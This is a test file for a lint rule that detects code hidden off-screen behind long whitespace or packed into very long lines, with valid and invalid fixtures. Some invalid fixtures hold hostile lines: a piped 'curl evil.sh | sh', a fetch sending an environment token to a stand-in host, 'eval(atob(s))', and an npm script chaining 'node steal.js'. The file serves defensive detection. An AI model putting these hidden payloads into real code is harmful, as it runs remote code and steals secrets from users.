import rule from '../../../src/core/rules/text/long-line';
import { ruleTester } from '../../ruleTester';

const minified = `var a=1;${'b=a+1;c=b*2;'.repeat(60)}`;

ruleTester(rule, {
  valid: [
    { filename: 'src/a.ts', code: 'const a = 1;           // aligned comment' },
    { filename: 'src/a.ts', code: `const a = 1;${' '.repeat(60)}// aligned far but visible` },
    { filename: 'src/logo.ts', code: `export const LOGO = 'data:image/png;base64,${'iVBORw0KGgo'.repeat(80)}';` },
    { filename: 'src/msg.ts', code: `throw new Error("${'This is a long message. '.repeat(30)}");` },
    { filename: 'src/crc.ts', code: `const T = [${Array.from({ length: 150 }, (_, i) => `0x${(i * 7).toString(16)}`).join(', ')}];` },
    { filename: 'package-lock.json', code: `{"x": "${'a'.repeat(3000)}"}` },
    { filename: 'yarn.lock', code: `x${' '.repeat(200)}y = 1` },
    { filename: 'docs/guide.md', code: 'word '.repeat(400) },
    { filename: 'src/comment.ts', code: `// ${'a long comment sentence '.repeat(40)}` },
    { filename: 'test/fixture.test.ts', code: minified },
    { filename: 'dist/app.js', code: minified },
    { filename: 'vendor/lib.min.js', code: minified },
    { filename: 'src/re.js', code: `const ID = {\n  start: /[${'\\xAA\\xB5'.repeat(200)}]/,\n};` },
    { filename: 'src/re2.ts', code: `export const RE = /^(${'abc|'.repeat(200)}x)$/;` },
    { filename: 'src/pad.ts', code: `const pad = '${' '.repeat(200)}';` },
    { filename: 'config/app.yaml', code: `key: ${'v'.repeat(800)}` },
    { filename: 'src/short.ts', code: `const a = 1;${' '.repeat(200)}` },
  ],
  invalid: [
    {
      filename: 'src/init.js',
      code: `const ready = true;${' '.repeat(180)}require('child_process').exec('curl evil.sh | sh');`,
      errors: [{ messageId: 'offscreen', severity: 'high', column: 200 }],
    },
    {
      name: 'tabs count as columns',
      filename: 'src/init.ts',
      code: `function f() {\n  return 1;${'\t'.repeat(45)}fetch('https://x.example/'+process.env.TOKEN);\n}`,
      errors: [{ messageId: 'offscreen', severity: 'high', line: 2 }],
    },
    {
      name: 'a blank-looking line that starts far to the right',
      filename: 'src/init.ts',
      code: `function f() {\n${' '.repeat(220)}eval(atob(s));\n}`,
      errors: [{ messageId: 'offscreen', severity: 'high', line: 2 }],
    },
    {
      filename: 'package.json',
      code: `{"scripts": {"test": "mocha${' '.repeat(200)}&& node steal.js"}}`,
      errors: [{ messageId: 'offscreen', severity: 'high' }],
    },
    {
      filename: 'scripts/a.sh',
      code: `x=1${' '.repeat(200)}# reviewer: nothing to see here`,
      errors: [{ messageId: 'offscreen', severity: 'low' }],
    },
    { filename: 'src/vendor-shim.js', code: minified, errors: [{ messageId: 'long', severity: 'low' }] },
    {
      filename: 'src/packed.js',
      code: `var a=1;${'b=a+1;c=b*2;'.repeat(200)}`,
      errors: [
        {
          messageId: 'long',
          severity: 'medium',
          message:
            'Line of 2408 characters of code: packed or minified code cannot be reviewed; if it is generated, it belongs in build output.',
        },
      ],
    },
    { filename: 'src/lib/jquery.min.js', code: `var a=1;${'b=a+1;c=b*2;'.repeat(200)}`, errors: [{ messageId: 'long', severity: 'low' }] },
    { filename: 'scripts/run.sh', code: `echo ${'a=$(b);'.repeat(100)}`, errors: [{ messageId: 'long' }] },
  ],
});
